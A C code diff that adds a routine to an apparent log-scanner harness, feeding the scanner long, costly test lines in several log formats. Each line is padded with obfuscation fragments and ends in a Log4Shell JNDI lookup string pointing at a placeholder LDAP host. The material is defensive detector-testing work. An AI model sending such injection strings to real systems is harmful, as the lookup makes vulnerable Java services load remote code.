@@ -61,6 +61,30 @@ static ct_err train(struct trainee *t, FILE *log)
     return CT_OK;
 }
 
+static size_t put(struct trainee *t, size_t n, const char *text)
+{
+    size_t more = strlen(text);
+    memcpy(t->bytes + n, text, more);
+    return n + more;
+}
+
+/* Lines made to cost much: loops that others take once or twice are long there. */
+static ct_err train_hostile(struct trainee *t)
+{
+    static const char *const heads[] = {"1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] \"GET /?q=", "{\"a\":\"", "Dec 10 14:00:00 h postfix/cleanup[1]: 4B1: "};
+    static const char *const units[] = {"$", "{", "}", "%25", "%24%7B", "&#36;", "&amp;", "\\u0024", "\\x7b", "\\\"", "${", "${a}", "${::-a}", "${a:-${b}}",
+                                        "${lower:", "${env:&#\\\"", "JHtqbmRpOg", "ICAgICAgICAgICAgICAgICA+", "=24", "a", " "};
+    enum { HEADS = sizeof heads / sizeof *heads, UNITS = sizeof units / sizeof *units, LONG = 16 * 1024 };
+    for (size_t i = 0; i < HEADS * UNITS; i++) {
+        size_t n = put(t, 0, heads[i / UNITS]);
+        while (n < LONG) n = put(t, n, units[i % UNITS]);
+        n = put(t, n, "${jndi:ldap://h.example/a}\" 200 1 \"-\" \"-\"\n");
+        struct ct_block block = {.source = CT_STR_INIT("log"), .bytes = {t->bytes, n}};
+        CT_TRY(judge(t, NULL, &block));
+    }
+    return CT_OK;
+}
+
 int main(int argc, char **argv)
 {
     static struct trainee t;
@@ -78,6 +102,7 @@ int main(int argc, char **argv)
         (void)fclose(log);
         if (e != CT_OK) return 4;
     }
+    if (train_hostile(&t) != CT_OK) return 4;
     ct_scanner_free(t.scanner);
     ct_campaigns_free(t.campaigns);
     ct_arena_free(t.scratch);
